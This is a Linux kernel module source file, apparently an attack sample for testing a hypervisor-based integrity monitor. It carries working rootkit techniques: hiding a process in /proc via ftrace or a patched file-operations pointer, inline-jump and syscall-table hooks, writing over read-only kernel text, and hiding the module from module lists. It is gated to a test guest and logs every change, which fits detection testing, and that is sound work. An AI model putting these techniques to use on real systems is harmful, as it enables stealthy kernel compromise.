// SPDX-License-Identifier: GPL-2.0-only
/*
 * hook.c - the module that hides itself and a process, or puts functions in the place of
 * system calls; for the guest of the attack suite alone, it works in no other kernel
 *
 *	mode=ftrace	hide a process: the function that lists /proc is redirected by ftrace
 *	mode=pointer	the same by a pointer of /proc's file operations: no code is changed
 *	mode=inline	getpgid: a jump over the first instruction of the function
 *	mode=site	getsid: a jump in the place of the function's ftrace site
 *	mode=table	getpgrp: the entry of the system call table
 *
 * It says in the kernel's log where its code lies and what it changed, a line of JSON each.
 */
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <linux/xxhash.h>
#include <asm/cpufeature.h>
#include <asm/syscall.h>

static char *step = "hook";
module_param(step, charp, 0);
static char *mode = "";
module_param(mode, charp, 0);
static char *hide = "";
module_param(hide, charp, 0);
extern char *saved_command_line;

static unsigned long (*lookup)(const char *name);
static int (*list_processes)(struct file *file, struct dir_context *ctx);
static int (*list_root)(struct file *file, struct dir_context *ctx);

/* kallsyms_lookup_name() is not for modules; a probe finds it. */
static int find_lookup(void)
{
	struct kprobe p = { .symbol_name = "kallsyms_lookup_name" };
	int rc = register_kprobe(&p);

	if (rc)
		return rc;
	lookup = (void *)p.addr;
	unregister_kprobe(&p);
	return 0;
}

static unsigned long frame(const void *addr)
{
	if (within_module((unsigned long)addr, THIS_MODULE))
		return vmalloc_to_pfn(addr);
	return PHYS_PFN(__pa(addr));
}

static void tell(const char *role, const void *addr)
{
	const void *page = (void *)((unsigned long)addr & PAGE_MASK);

	pr_err("attack: {\"step\": \"%s\", \"twin\": 0, \"role\": \"%s\", \"addr\": \"0x%px\", \"gfn\": \"0x%lx\", \"xxh64\": \"%016llx\"}\n",
	       step, role, addr, frame(addr), xxh64(page, PAGE_SIZE, 0));
}

/* Write to what is mapped read-only, by another mapping. */
static void write_over(const char *symbol, void *to, const void *from, size_t size)
{
	struct page *page = pfn_to_page(frame(to));
	u8 old[8] = {}, *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!map)
		return;
	memcpy(old, to, size);
	memcpy(map + offset_in_page(to), from, size);
	vunmap(map);
	pr_err("attack: {\"step\": \"%s\", \"twin\": 0, \"role\": \"kernel\", \"symbol\": \"%s\", \"addr\": \"0x%px\", \"gfn\": \"0x%lx\", \"old\": \"%*phN\", \"new\": \"%*phN\", \"xxh64\": \"%016llx\"}\n",
	       step, symbol, to, frame(to), (int)size, old, (int)size, from,
	       xxh64((void *)((unsigned long)to & PAGE_MASK), PAGE_SIZE, 0));
}

/* /proc without one name. */
struct without {
	struct dir_context ctx;
	struct dir_context *real;
};

static bool skip(struct dir_context *ctx, const char *name, int len, loff_t pos, u64 ino,
		 unsigned int type)
{
	struct without *w = container_of(ctx, struct without, ctx);

	if (len == strlen(hide) && !memcmp(name, hide, len))
		return true;
	w->real->pos = ctx->pos;
	return w->real->actor(w->real, name, len, pos, ino, type);
}

static noinline int list_without(int (*list)(struct file *, struct dir_context *),
				 struct file *file, struct dir_context *ctx)
{
	struct without w = { .ctx = { .actor = skip, .pos = ctx->pos }, .real = ctx };
	int rc = list(file, &w.ctx);

	ctx->pos = w.ctx.pos;
	return rc;
}

static int hidden_processes(struct file *file, struct dir_context *ctx)
{
	return list_without(list_processes, file, ctx);
}

static int hidden_root(struct file *file, struct dir_context *ctx)
{
	return list_without(list_root, file, ctx);
}

static long replacement(const struct pt_regs *regs)
{
	return 0x5eed;
}

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			     struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent, THIS_MODULE))
		regs->ip = (unsigned long)hidden_processes;
}

static struct ftrace_ops ops = {
	.func = redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static void jump(const char *symbol, u8 *at)
{
	u8 code[5] = { 0xe9 };
	s32 to = (s32)((u8 *)replacement - (at + 5));

	memcpy(code + 1, &to, 4);
	write_over(symbol, at, code, 5);
}

static int hook_function(const char *symbol, int skip_site)
{
	unsigned long (*site)(unsigned long ip) = (void *)lookup("ftrace_location");
	u8 *f = (void *)lookup(symbol), *at;

	if (!f || !site)
		return -ENOENT;
	at = (u8 *)site((unsigned long)f);
	if (!at)
		return -ENOENT;
	if (skip_site)
		at += 5;
	if (offset_in_page(at) > PAGE_SIZE - 5)
		return -ERANGE;
	tell("handler", replacement);
	jump(symbol, at);
	return 0;
}

static int hook_pointer(const char *symbol, void **slot, void *to)
{
	tell("handler", to);
	write_over(symbol, slot, &to, sizeof(to));
	return 0;
}

static int hook(void)
{
	void **table = (void *)lookup("sys_call_table");
	struct file_operations *root = (void *)lookup("proc_root_operations");
	int rc;

	list_processes = (void *)lookup("proc_pid_readdir");
	if (!table || !root || !list_processes)
		return -ENOENT;
	if (!strcmp(mode, "ftrace")) {
		tell("handler", hidden_processes);
		rc = ftrace_set_filter_ip(&ops, (unsigned long)list_processes, 0, 0);
		return rc ?: register_ftrace_function(&ops);
	}
	list_root = root->iterate_shared;
	if (!strcmp(mode, "pointer"))
		return hook_pointer("proc_root_operations", (void **)&root->iterate_shared, hidden_root);
	if (!strcmp(mode, "inline"))
		return hook_function("__x64_sys_getpgid", 1);
	if (!strcmp(mode, "site"))
		return hook_function("__x64_sys_getsid", 0);
	if (!strcmp(mode, "table"))
		return hook_pointer("sys_call_table", &table[__NR_getpgrp], replacement);
	return -EINVAL;
}

static int __init hook_init(void)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	u8 *text = THIS_MODULE->mem[MOD_TEXT].base;
	unsigned int size = THIS_MODULE->mem[MOD_TEXT].size, i;
#else
	u8 *text = THIS_MODULE->core_layout.base;
	unsigned int size = THIS_MODULE->core_layout.text_size, i;
#endif
	char **command_line;
	int rc = find_lookup();

	if (rc)
		return rc;
	command_line = (char **)lookup("saved_command_line");
	if (!boot_cpu_has(X86_FEATURE_HYPERVISOR) || !command_line || !strstr(*command_line, "attack.suite"))
		return -EPERM;
	for (i = 0; i < size; i += PAGE_SIZE)
		tell("module", text + i);
	rc = hook();
	if (rc)
		return rc;
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hook_init);
MODULE_DESCRIPTION("Attacks on the guest kernel, for FitzRoy's tests");
MODULE_LICENSE("GPL");
